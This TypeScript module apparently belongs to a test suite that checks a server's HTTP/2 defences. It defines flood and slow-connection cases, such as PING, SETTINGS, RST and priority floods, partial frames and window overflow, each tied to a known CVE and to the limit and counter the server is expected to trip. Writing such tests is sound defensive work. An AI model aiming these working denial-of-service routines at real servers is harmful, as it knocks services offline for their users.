import { data, END_HEADERS, frame, goAway, headers, settings, windowUpdate } from '../support/http2-frames.ts'
import { type Attack, goesOn, type Target } from './attack.ts'
import { idOf, PATHS, request } from './hostile-blocks.ts'
import type { HostileWire } from './hostile-wire.ts'

const DOORS = ['h2c', 'link'] as const
const BATCH = 50

/** One frame, over and over, on a connection with one request that is open. `isDeaf`: without reading the answers. */
const flood =
  (octets: Buffer, limit: number, isDeaf = false) =>
  async (wire: HostileWire, target: Target): Promise<void> => {
    if (isDeaf) wire.stopReading()
    await wire.begin()
    await wire.send(headers(1, request(target, 'POST', PATHS.silent), END_HEADERS))
    for (let n = 0; goesOn(wire, target, n / BATCH); n += BATCH) {
      await wire.send(Buffer.concat(Array(BATCH).fill(octets)))
      if (n + BATCH > limit) wire.passed()
    }
  }

/** One frame at a time, as many in a second as may be, without reading the answers. */
const drizzle =
  (octets: Buffer, perSecond: number) =>
  async (wire: HostileWire, target: Target): Promise<void> => {
    wire.stopReading()
    await wire.begin()
    for (let n = 0; goesOn(wire, target, n); n++) {
      await wire.send(octets)
      await wire.pause(1_000 / perSecond)
    }
  }

const PING = frame(6, 0, 0, Buffer.alloc(8))
const cutFor = (name: string, known: string, limit: string, counter: string, run: Attack['run']): Attack => ({
  name,
  doors: DOORS,
  known,
  limit,
  counter: `h2:${counter}`,
  isCut: true,
  run,
})

/** Frames that cost their sender less than us. */
export const FLOODS: readonly Attack[] = [
  cutFor('ping-flood', 'CVE-2019-9512', '100 PINGs a second', 'ping-flood', flood(PING, 100)),
  cutFor(
    'ping-flood-deaf',
    'CVE-2019-9512, answers not read',
    '100 PINGs a second',
    'ping-flood',
    flood(PING, 100, true),
  ),
  cutFor('settings-flood', 'CVE-2019-9515', '20 SETTINGS a second', 'settings-flood', flood(settings(), 20, true)),
  cutFor('goaway-flood', 'GOAWAY without end', '100 a second', 'ping-flood', flood(goAway(0, 0), 100)),
  cutFor('empty-data', 'CVE-2019-9518', '10 empty frames in a row', 'empty-frame-flood', flood(data(1, ''), 10)),
  cutFor(
    'empty-padding',
    'CVE-2019-9518, with padding',
    '10 in a row',
    'empty-frame-flood',
    flood(frame(0, 8, 1, '0200'.concat('00')), 10),
  ),
  cutFor(
    'priority-flood',
    'CVE-2019-9513',
    '100 for each stream',
    'priority-flood',
    flood(frame(2, 0, 1, '0000000010'), 200),
  ),
  cutFor(
    'unknown-frames',
    'frames of no type',
    '100 for each stream',
    'priority-flood',
    flood(frame(0xbe, 0, 0, 'aa'), 200),
  ),
  cutFor(
    'window-updates',
    'WINDOW_UPDATE without end',
    '100, and 20 for each DATA frame',
    'window-update-flood',
    flood(windowUpdate(1, 1), 102),
  ),
  cutFor(
    'window-overflow',
    'CVE-2026-21714: is the connection forgotten?',
    'a window of 2^31 − 1',
    'flow-control-fault',
    async (wire, target) => {
      await wire.begin()
      await wire.send(headers(1, request(target, 'GET', PATHS.silent)), windowUpdate(0, 2 ** 31 - 1))
      wire.passed()
      await wire.cut
    },
  ),
  cutFor(
    'reset-flood',
    'CVE-2019-9514: requests over the limit, refusals not read',
    '50 refusals',
    'provoked-reset',
    async (wire, target) => {
      wire.stopReading()
      const begin = request(target, 'GET', PATHS.silent)
      await wire.begin()
      await wire.pause(50)
      for (let n = 0; goesOn(wire, target, n / BATCH); n++) {
        await wire.send(headers(idOf(n), begin))
        if (n > 1_050) wire.passed()
      }
    },
  ),
  {
    leapMs: 16_000,
    ...cutFor(
      'no-settings',
      'a connection that never begins',
      '10 s to the first SETTINGS',
      'slow-frame',
      async (wire) => {
        await wire.send('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
        await wire.pause(10_000)
        wire.passed()
        await wire.cut
      },
    ),
  },
  {
    leapMs: 21_000,
    ...cutFor('partial-frame', 'a frame that is never complete', '10 s to 15 s', 'slow-frame', async (wire, target) => {
      await wire.begin()
      const whole = headers(1, request(target, 'GET', PATHS.small))
      for (let at = 0; at < whole.length - 1 && !wire.isCut && !wire.isStopped; at++) {
        await wire.send(whole.subarray(at, at + 1))
        await wire.pause(1_000)
        if (at === 15) wire.passed()
      }
      await wire.cut
    }),
  },
  {
    name: 'ping-below',
    doors: DOORS,
    known: 'CVE-2019-9512, below the limit for ever, answers not read',
    limit: 'none is passed',
    isCut: false,
    run: drizzle(PING, 95),
  },
  {
    name: 'settings-below',
    doors: DOORS,
    known: 'CVE-2019-9515, below the limit for ever, answers not read',
    limit: 'none is passed',
    isCut: false,
    run: drizzle(settings(...Array.from({ length: 32 }, (): [number, number] => [4, 70_000])), 19),
  },
]
